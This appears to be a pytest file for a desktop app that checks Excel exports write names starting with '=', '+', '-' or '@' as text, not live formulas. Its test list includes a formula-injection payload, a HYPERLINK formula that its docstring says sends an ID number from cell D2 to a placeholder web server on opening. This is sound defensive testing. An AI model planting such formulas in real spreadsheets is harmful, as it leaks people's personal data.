"""Excel formula injection (issue #15, point 12): a name that starts with "=", "+", "-" or "@"
is data. Every Excel file the program writes stores it as a text cell (never a <f> formula
that Excel would run when the file is opened) and reading the file back gives the same text."""

from __future__ import annotations

import datetime as dt
import re
import zipfile

import openpyxl
import pytest
from sqlalchemy import select, update

from bdhvs_desktop.documents import excel_io as xio
from bdhvs_desktop.services import exporter, report_scores, reports
from bdhvs_desktop.services.status import compute_status, write_status_xlsx
from bdhvs_desktop.storage import models as m

TODAY = dt.date(2026, 11, 20)

ATTACKS = [
    '=HYPERLINK("http://x/?"&D2,"x")',
    "+1",
    "-2",
    "@SUM(A1)",
    "=1+1",
    "#N/A",
]


def _poison(db) -> dict[str, list[str]]:
    """Give people (the candidates first) and units hostile names, as a direct SQL edit or a
    careless import would; returns the names used per table."""
    used: dict[str, list[str]] = {"person": [], "unit": []}
    with db.session() as s:
        cand_people = [pid for pid in s.scalars(select(m.Candidate.person_id).where(m.Candidate.person_id.is_not(None))
                                               .order_by(m.Candidate.id))]
        cand_units = [uid for uid in s.scalars(select(m.Candidate.unit_id).where(m.Candidate.unit_id.is_not(None))
                                              .order_by(m.Candidate.id))]
        people = list(dict.fromkeys(cand_people + list(s.scalars(select(m.Person.id).order_by(m.Person.id)))))
        units = list(dict.fromkeys(cand_units + list(s.scalars(select(m.Unit.id).where(m.Unit.active.is_(True))
                                                                .order_by(m.Unit.id)))))
        for pid, name in zip(people, ATTACKS):
            s.execute(update(m.Person).where(m.Person.id == pid).values(full_name=name))
            used["person"].append(name)
        for uid, name in zip(units, ATTACKS):
            s.execute(update(m.Unit).where(m.Unit.id == uid).values(name=name))
            used["unit"].append(name)
    return used


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as zf:
        parts = [zf.read(n).decode("utf-8") for n in zf.namelist()
                 if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        if "xl/sharedStrings.xml" in zf.namelist():
            parts.append(zf.read("xl/sharedStrings.xml").decode("utf-8"))
    return "\n".join(parts)


def _assert_no_formula_and_text_back(path, expected: list[str]) -> None:
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml, "a data cell was written as a live formula"
    assert not re.search(r'<c [^>]*t="e"', xml), "a data cell was written as an Excel error value"
    wb = openpyxl.load_workbook(path)  # not data_only: a formula would come back as its text with data_type 'f'
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type in ("s", "inlineStr"), (ws.title, cell.coordinate, cell.value, cell.data_type)
                    seen[cell.value] = cell.data_type
    missing = [name for name in expected if name not in seen]
    assert not missing, f"names not found back as the same text: {missing}"


@pytest.mark.parametrize("kind", ["people", "units"])
def test_import_layout_exports_write_hostile_names_as_text(demo_db, tmp_path, kind):
    used = _poison(demo_db)
    path = tmp_path / f"{kind}.xlsx"
    exporter.export(demo_db, kind, path)
    names = used["person"] if kind == "people" else used["unit"]
    _assert_no_formula_and_text_back(path, names)
    # The import reader gives back exactly the text, with no apostrophe or other mark added.
    data = xio.read_workbook(path)
    spec = xio.PEOPLE if kind == "people" else xio.UNITS
    col = spec.headers.index("Họ và tên" if kind == "people" else "Tên đơn vị")
    read_names = [values[col] for _row, values in data.sheets[spec.name].rows]
    for name in names:
        assert name in read_names


def test_people_export_keeps_the_cccd_column_out_of_a_formula(demo_db, tmp_path):
    """The attack seen in the field: =HYPERLINK("http://x/?"&D2,...) sends the CCCD in D2
    to a web server when the file is opened. It must stay inert text."""
    _poison(demo_db)
    path = tmp_path / "people.xlsx"
    exporter.export(demo_db, "people", path)
    xml = _sheet_xml(path)
    assert "HYPERLINK" in xml  # the text is there...
    assert "<f>HYPERLINK" not in xml  # ...but never as a formula


def test_scoreboard_and_progress_reports_write_hostile_names_as_text(demo_db, tmp_path):
    used = _poison(demo_db)
    board = tmp_path / "bang-diem.xlsx"
    reports.write_report(demo_db, "scoreboard", board, TODAY)
    sheet = report_scores.scoreboard_data(demo_db, TODAY)
    names_on_board = {r.name for g in sheet.groups for r in g.rows}
    expected = [n for n in used["person"] + used["unit"] if n in names_on_board]
    assert expected, "the demo's candidates should carry the hostile names"
    _assert_no_formula_and_text_back(board, expected)
    progress = tmp_path / "tien-do.xlsx"
    reports.write_report(demo_db, "progress", progress, TODAY)
    xml = _sheet_xml(progress)
    assert "<f>" not in xml and "<f " not in xml


def test_status_export_writes_hostile_unit_names_as_text(demo_db, tmp_path):
    used = _poison(demo_db)
    report = compute_status(demo_db, TODAY)
    path = tmp_path / "tinh-trang.xlsx"
    write_status_xlsx(report, path)
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    wb = openpyxl.load_workbook(path)
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert any(n in texts for n in used["unit"]), "the hostile unit names should appear in the status file"
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    assert c.data_type == "s", (ws.title, c.coordinate, c.value)
